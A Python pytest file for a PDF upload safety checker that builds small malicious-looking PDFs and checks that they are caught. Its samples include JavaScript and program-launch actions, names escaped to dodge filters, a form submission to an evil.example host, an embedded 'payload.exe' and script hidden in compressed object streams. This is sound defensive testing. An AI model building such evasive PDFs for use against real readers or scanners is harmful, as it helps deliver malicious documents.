"""PDFs are parsed as PDF: active content is found however its names are spelled and wherever
it hides (object streams, pages, annotations, name trees); what cannot be parsed is refused."""

from __future__ import annotations

import io

import pikepdf
import pytest

from transparency.core import pdf_safety
from transparency.core.limits import Limits, WorkBusy, WorkFailed, WorkOutOfMemory, WorkTimedOut
from transparency.core.pdf_safety import (
    PdfFeature,
    UnsafePdf,
    check_pdf,
    dangerous_pdf_features,
    pdf_features,
)

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> %s >>"


def raw_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes) -> bytes:
    """A PDF written byte by byte (so escaped names stay escaped), with a correct xref table.

    Objects: 1 catalog, 2 pages, 3 page, then `more` as 4, 5, ...
    """
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE % page_extra,
        *more,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def test_the_hand_written_pdfs_are_well_formed():
    with pikepdf.open(io.BytesIO(raw_pdf())) as pdf:
        assert len(pdf.pages) == 1
        assert pdf.get_warnings() == []  # nothing repaired: the test files say exactly what they mean


def test_a_plain_pdf_passes():
    assert pdf_features(raw_pdf()) == []
    assert dangerous_pdf_features(raw_pdf()) == []
    check_pdf(raw_pdf())
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/) >> >>"
    assert pdf_features(raw_pdf(b"", b"/Annots [4 0 R]", link)) == []  # a web link is no threat


def test_a_pdf_made_by_pikepdf_passes():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out)
    assert pdf_features(out.getvalue()) == []


ESCAPED = [
    # (what is written into the file, what must be found)
    (raw_pdf(b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"), b"/J#61vaScript", PdfFeature.SCRIPT),
    (raw_pdf(b"/OpenAction << /S /JavaScript /J#53 (app.alert(1)) >>"), b"/J#53", PdfFeature.SCRIPT),
    (raw_pdf(b"/Open#41ction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] >>"), b"/Open#41ction", None),
    (raw_pdf(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"), b"/L#61unch", PdfFeature.LAUNCH),
    (raw_pdf(b"/Names << /J#61va#53cript << /Names [(a) 4 0 R] >> >>", b"", b"<< /S /GoTo >>"), b"#53", None),
    (raw_pdf(b"", b"/#41A << /O << /S /GoTo /D [3 0 R /Fit] >> >>"), b"/#41A", None),
    (raw_pdf(b"/OpenAction << /S /#53ubmitForm /F (https://evil.example/) >>"), b"/#53ubmitForm", None),
    (raw_pdf(b"/OpenAction << /S /Go#54oR /F (other.pdf) /D [0 /Fit] >>"), b"/Go#54oR", PdfFeature.OTHER_FILE),
]


@pytest.mark.parametrize(("data", "written", "expected"), ESCAPED, ids=[w.decode() for _, w, _ in ESCAPED])
def test_escaped_names_are_decoded_before_they_are_judged(data, written, expected):
    assert written in data  # the file really holds the escape, not the plain name
    features = pdf_features(data)
    assert features, "an escaped name slipped through"
    if expected is not None:
        assert expected in features
    with pytest.raises(UnsafePdf):
        check_pdf(data)


def test_the_messages_say_what_was_found_in_chinese():
    messages = dangerous_pdf_features(ESCAPED[0][0])
    assert "PDF 文件里带有脚本（JavaScript），不能上传" in messages
    assert any("自动执行" in message for message in messages)  # it was an OpenAction too


def test_automatic_actions_on_a_page_are_found():
    data = raw_pdf(b"", b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>")
    assert pdf_features(data) == [PdfFeature.AUTOMATIC_ACTION]


def test_an_annotation_launching_a_program_is_found():
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>"
    assert pdf_features(raw_pdf(b"", b"/Annots [4 0 R]", annotation)) == [PdfFeature.LAUNCH]


def test_an_embedded_file_is_found():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really a program")
    out = io.BytesIO()
    pdf.save(out)
    assert pdf_features(out.getvalue()) == [PdfFeature.EMBEDDED_FILE]


def test_javascript_inside_a_compressed_object_stream_is_found():
    source = raw_pdf(
        b"/Names 4 0 R",
        b"",
        b"<< /JavaScript 5 0 R >>",
        b"<< /Names [(x) << /S /JavaScript /JS 6 0 R >>] >>",
        b"(app.alert(1))",
    )
    with pikepdf.open(io.BytesIO(source)) as pdf:
        out = io.BytesIO()
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    data = out.getvalue()
    assert b"/ObjStm" in data and b"JavaScript" not in data and b"alert" not in data  # all packed away
    assert pdf_features(data) == [PdfFeature.SCRIPT]


def test_rich_media_and_form_submission_are_found():
    rich = b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"
    assert pdf_features(raw_pdf(b"", b"/Annots [4 0 R]", rich)) == [PdfFeature.MEDIA]
    importing = raw_pdf(b"/OpenAction << /S /ImportData /F (data.fdf) >>")
    assert PdfFeature.FORM_DATA in pdf_features(importing)


def test_a_reference_loop_is_walked_once():
    looped = raw_pdf(b"/Extra 4 0 R", b"", b"<< /Next 5 0 R >>", b"<< /Next 4 0 R /S /Launch >>")
    assert pdf_features(looped) == [PdfFeature.LAUNCH]


@pytest.mark.parametrize(
    "data",
    [b"%PDF-1.4\nnot a pdf at all", b"", b"\x89PNG\r\n\x1a\n", b"%PDF-1.7\n" + b"\x00" * 4096 + b"%%EOF\n"],
)
def test_what_cannot_be_parsed_is_refused(data):
    assert pdf_features(data) == [PdfFeature.UNREADABLE]
    with pytest.raises(UnsafePdf, match="不是能读取的 PDF"):
        check_pdf(data)


def test_a_pdf_locked_with_a_password_is_refused():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    assert pdf_features(out.getvalue()) == [PdfFeature.UNREADABLE]


def test_the_check_runs_in_a_bounded_child_process():
    limits = Limits(time_limit=30, memory_limit=512 * 1024 * 1024)
    check_pdf(raw_pdf(), limits=limits)
    with pytest.raises(UnsafePdf, match="JavaScript"):
        check_pdf(ESCAPED[0][0], limits=limits)


@pytest.mark.parametrize("stopped", [WorkTimedOut("slow"), WorkOutOfMemory("big"), WorkFailed("crashed")])
def test_a_check_stopped_by_its_limits_refuses_the_file(monkeypatch, stopped):
    def stopping(*args, **kwargs):
        raise stopped

    monkeypatch.setattr(pdf_safety, "run_bounded", stopping)
    with pytest.raises(UnsafePdf, match="过于复杂"):
        check_pdf(raw_pdf(), limits=Limits(time_limit=1, memory_limit=1))
    monkeypatch.setattr(pdf_safety, "run_bounded", lambda *a, **k: (_ for _ in ()).throw(WorkBusy("busy")))
    with pytest.raises(WorkBusy):  # not the file's fault: the caller says "try again"
        check_pdf(raw_pdf(), limits=Limits(time_limit=1, memory_limit=1))
